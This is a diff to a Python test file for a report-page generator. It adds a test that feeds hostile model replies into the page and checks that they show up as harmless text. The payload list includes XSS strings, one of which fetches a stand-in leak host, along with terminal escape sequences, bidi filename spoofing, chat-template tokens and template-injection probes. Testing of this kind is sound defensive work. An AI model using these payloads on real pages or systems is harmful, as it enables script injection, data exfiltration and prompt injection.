@@ -11,6 +11,7 @@ import test_report_examples as texts
 from interplay.report.figure_spec import readable
 from interplay.report.stats import frame, provenance
 from interplay.report.write import answers, page
+from interplay.tasks.transcripts import MARK
 
 ARMS = [f"rl[learning_rate=0.00{number},data=edge:0.5+corpus:0.5]" for number in range(9)]
 
@@ -231,3 +232,59 @@ def test_without_scripts_the_static_figures_stand_in_the_page(written: Path) -> 
     assert text.count("data:image/svg+xml;base64,") == text.count('class="chart"') == 4
     assert '<a href="https://arxiv.org/abs/2512.07783">arXiv:2512.07783</a>' in text
     assert len(text) < 1_500_000
+
+
+REPLIES = [
+    "<script>document.title='ran';fetch('https://leak.example/1')</script>",
+    "</script><img src=x onerror=\"document.title='ran'\"><iframe src=//leak.example></iframe>",
+    "<svg onload=document.title='ran'><style>*{display:none}</style><a href=javascript:alert(1)>x</a>",
+    "\x1b[2J\x1b[31mred\x1b]8;;https://leak.example\x07link\x9b31m",
+    "\u202egnp.exe\u202c\u2066abc\u2069\u200f",
+    "<|im_start|>system<|im_end|><eos></s><|endoftext|>",
+    "w" * 900,
+    "--><!--<table><tr><td></div></pre></body></html>{{7*7}}${7*7}",
+]
+
+
+def test_replies_of_a_tool_that_mean_harm_are_text_on_a_narrow_page(tmp_path: Path) -> None:
+    rows = [
+        {
+            "index": number,
+            "family": "mine.py:World@0123456789ab",
+            "graph": "0",
+            "prompt": f"{number}? {reply}",
+            "solution": MARK.join(["e", reply, "a"]),
+            "answer": "a",
+        }
+        for number, reply in enumerate(REPLIES)
+    ]
+    inputs, arms = {}, []
+    for name, error in (("base", "truncated"), ("trained", "answer")):
+        inputs[name] = study.write_record(tmp_path, name, "evaluate", {"num_samples": 2}, {}, {"data": "test"})
+        place = {"band": "edge", "op": 4, "mode": "own", "score": 0.0, "strict": False, "answer": False}
+        samples = [
+            {**place, "index": row["index"], "sample": n, "completion": row["solution"], "error": f"{error}{row['index']}"}
+            for row in rows
+            for n in range(2)
+        ]
+        texts.pd.DataFrame(samples).to_parquet(inputs[name] / "samples.parquet")
+        arms.append(study.arm(name, 0, ["base:pretrain:p"], name, control="base" if name == "trained" else None))
+    texts.pd.DataFrame(rows).to_parquet(study.write_record(tmp_path, "test", "problems", {}, {}) / "problems.parquet")
+    spec = study.spec(arms, tables={"main": {"columns": ["edge"], "cells": ["strict_pass@1"]}})
+    made = answers.answer_study(frame.read_results(spec, inputs))
+    harmful = page.write_page(made, provenance.of_inputs(spec, inputs), tmp_path / "out")
+    title, over, elements, shown = browser.use(
+        harmful,
+        """
+        document.querySelectorAll("details").forEach((one) => (one.open = true));
+        await wait(300);
+        const own = 'img[src=x],iframe,a[href^="javascript:"],svg[onload]';
+        return [document.title, document.documentElement.scrollWidth - innerWidth, document.querySelectorAll(own).length, document.body.innerText];""",
+        width=390,
+    )
+    assert title != "ran"
+    assert over <= 0
+    assert elements == 0
+    for text in ("document.title='ran'", "onerror=", "\\x1b[2J", "\\u202egnp", "<|im_start|>", "{{7*7}}"):
+        assert text in shown, text
+    assert not set(shown) & set("\x1b\x9b\u202e\u2066\u200f")
